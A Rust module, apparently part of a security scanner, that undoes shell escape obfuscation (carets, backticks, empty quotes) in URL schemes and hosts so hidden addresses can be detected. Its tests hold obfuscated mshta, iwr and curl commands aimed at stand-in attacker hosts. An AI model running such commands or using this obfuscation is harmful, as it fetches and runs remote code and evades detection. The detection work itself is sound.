//! Signs that a shell drops, which only hide an address: `ht^tp://e^vil.example`, ``h`ttp://``, `h""ttp://`.

use std::borrow::Cow;

/// What a shell drops between two letters: the escapes of cmd and PowerShell, and an empty pair of quotes.
const DROPPED: [&str; 4] = ["^", "`", "\"\"", "''"];

const SCHEMES: [&str; 3] = ["http", "https", "ftp"];

/// Letters of a scheme, and signs between them.
const LONGEST: usize = 16;

/// Letters of a host, and signs between them.
const LONGEST_HOST: usize = 512;

/// The text with the addresses whose scheme or host hold such signs written out. Elsewhere they stay: between values they part them.
pub(super) fn written_out(text: &str) -> Cow<'_, str> {
    if !text.contains(':') || !DROPPED.iter().any(|sign| text.contains(sign)) {
        return Cow::Borrowed(text);
    }
    let mut out: Option<String> = None;
    let mut end = 0;
    for word in text.split_inclusive(char::is_whitespace) {
        let at = end;
        end += word.len();
        if let Some(address) = address(word) {
            out.get_or_insert_with(|| text.get(..at).unwrap_or_default().to_owned()).push_str(&address);
        } else if let Some(out) = &mut out {
            out.push_str(word);
        }
    }
    out.map_or(Cow::Borrowed(text), Cow::Owned)
}

/// The word without them, where they stand in the scheme or the host of an address in it.
fn address(word: &str) -> Option<String> {
    let at = word.find("://")?;
    let (before, behind) = (word.get(..at)?, word.get(at..)?);
    let scheme = scheme(before)?;
    let path = behind.get(3..)?.find(['/', '?', '#']).map_or(behind.len(), |path| path + 3);
    if path > LONGEST_HOST {
        return None;
    }
    let hidden = [before.get(scheme..)?, behind.get(..path)?];
    let shown = hidden.map(without).concat();
    let whole = [before.get(..scheme)?, &shown, behind.get(path..)?].concat();
    (whole.len() < word.len()).then_some(whole)
}

/// Where the scheme begins that the text ends with, such signs in it or not.
fn scheme(text: &str) -> Option<usize> {
    let ends = text.char_indices().rev().take(LONGEST);
    ends.map(|(at, _)| at).find(|at| {
        let word = text.get(*at..).map(without).unwrap_or_default();
        SCHEMES.iter().any(|scheme| word.eq_ignore_ascii_case(scheme))
    })
}

/// The text without such signs between two letters.
fn without(text: &str) -> String {
    let (mut clean, mut rest) = (String::new(), text);
    while let Some((at, sign)) = next(rest) {
        let (before, behind) = (rest.get(..at).unwrap_or_default(), rest.get(at + sign.len()..).unwrap_or_default());
        clean.push_str(before);
        let is_between = clean.ends_with(|letter: char| letter.is_ascii_alphabetic())
            && behind.starts_with(|letter: char| letter.is_ascii_alphabetic());
        if !is_between {
            clean.push_str(sign);
        }
        rest = behind;
    }
    clean + rest
}

fn next(text: &str) -> Option<(usize, &'static str)> {
    DROPPED.iter().filter_map(|sign| Some((text.find(sign)?, *sign))).min()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_address_that_a_shell_would_read_is_written_out_and_what_parts_values_stays() {
        for (text, read) in [
            ("mshta ht^tp://b16.e^vil-corp.test/a now", "mshta http://b16.evil-corp.test/a now"),
            ("iwr h`ttp://b19.e`vil-corp.test", "iwr http://b19.evil-corp.test"),
            ("curl h\"\"ttp://ev\"\"il.test/a", "curl http://evil.test/a"),
            ("a.test^b.test^http://c.test/x", "a.test^b.test^http://c.test/x"),
            ("http://a.test/x^y `http://b.test/`", "http://a.test/x^y `http://b.test/`"),
            ("[b](http://b.test) `a`b`", "[b](http://b.test) `a`b`"),
            ("say \"\"http://a.test/\"\" 2^10: x^y", "say \"\"http://a.test/\"\" 2^10: x^y"),
        ] {
            assert_eq!(written_out(text), read, "{text}");
        }
    }
}
